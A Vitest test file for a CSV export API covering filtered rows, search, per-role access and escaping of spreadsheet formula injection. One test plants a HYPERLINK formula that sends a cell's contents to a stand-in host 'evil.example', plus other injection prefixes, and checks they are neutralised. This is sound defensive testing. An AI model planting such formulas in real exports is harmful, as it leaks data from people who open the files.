import { describe, expect, it } from 'vitest'

import { rest } from '../../helpers/rest'
import { roleNames, roles, tokenOf, type Role } from '../../helpers/users'
import { makeSubmission } from '../access/fixtures'
import { newMarker, prepareAccessContext } from '../access/matrix'
import { parseCsv } from './csv'

const context = prepareAccessContext()

const exporters: Record<string, Role[]> = {
  'contact-submissions': ['admin', 'sales'],
  'quote-requests': ['admin', 'sales'],
  'partnership-applications': ['admin', 'sales'],
  'career-applications': ['admin', 'recruiter'],
}

/** A field each kind of submission stores as the visitor typed it. */
const typedName: Record<string, string> = {
  'contact-submissions': 'lastName',
  'quote-requests': 'contactName',
  'partnership-applications': 'contact',
  'career-applications': 'lastName',
}

describe('CSV export', () => {
  it('downloads exactly the rows of the filtered list, with a header row', async () => {
    const marker = newMarker()
    const ids = []
    for (const status of ['new', 'contacted', 'contacted']) {
      ids.push(await makeSubmission(context, 'contact-submissions', marker, { status }))
    }
    const query = new URLSearchParams({
      'where[firstName][equals]': marker,
      'where[status][equals]': 'contacted',
    })
    const response = await rest('GET', `/api/contact-submissions/export.csv?${query}`, {
      token: context.users.admin.token,
    })
    expect(response.status).toBe(200)
    const rows = parseCsv(response.body as string)
    expect(rows.map((row) => Number(row.ID)).sort()).toEqual(ids.slice(1).sort())
    expect(rows[0]).toMatchObject({ 'First Name': marker, Status: 'Contacted' })
  })

  it('exports a formula a visitor typed as text, in every kind of submission', async () => {
    const formula = '=HYPERLINK("http://evil.example/?"&D2,"open")'
    const cells = ['+1+1', '-2+3', '@SUM(A1)', '\tTAB', '\rCR', 'Ada = fine']
    for (const collection of Object.keys(exporters)) {
      const marker = newMarker()
      const id = await makeSubmission(context, collection as never, marker, {
        [typedName[collection]]: formula,
      })
      const response = await rest('GET', `/api/${collection}/export.csv?where[id][equals]=${id}`, {
        token: context.users.admin.token,
      })
      const [row] = parseCsv(response.body as string)
      expect(Object.values(row)).toContain(`'${formula}`)
      expect(Object.values(row).some((cell) => /^[=+\-@\t\r]/.test(cell))).toBe(false)
    }
    const marker = newMarker()
    for (const cell of cells) {
      const id = await makeSubmission(context, 'contact-submissions', marker, { lastName: cell })
      const response = await rest(
        'GET',
        `/api/contact-submissions/export.csv?where[id][equals]=${id}`,
        {
          token: context.users.admin.token,
        },
      )
      const [row] = parseCsv(response.body as string)
      expect(row['Last Name']).toBe(/^[=+\-@\t\r]/.test(cell) ? `'${cell}` : cell)
    }
  })

  it("applies the list's search box to name, e-mail and company", async () => {
    const marker = newMarker()
    const id = await makeSubmission(context, 'contact-submissions', newMarker(), {
      companyOperator: `Operator ${marker}`,
    })
    const response = await rest(
      'GET',
      `/api/contact-submissions/export.csv?${new URLSearchParams({ search: marker })}`,
      { token: context.users.admin.token },
    )
    const rows = parseCsv(response.body as string)
    expect(rows.map((row) => Number(row.ID))).toEqual([id])
  })

  for (const [collection, allowed] of Object.entries(exporters)) {
    for (const role of roles) {
      const may = allowed.includes(role)
      it(`${roleNames[role]} ${may ? 'can' : 'cannot'} export ${collection}`, async () => {
        const id = await makeSubmission(context, collection as never)
        const response = await rest(
          'GET',
          `/api/${collection}/export.csv?where[id][equals]=${id}`,
          {
            token: tokenOf(context.users, role),
          },
        )
        expect(response.status).toBe(may ? 200 : 403)
        if (may) expect(parseCsv(response.body).map((row) => Number(row.ID))).toEqual([id])
        else expect(response.body.errors[0].message).toMatch(/not allowed/i)
      })
    }
  }
})
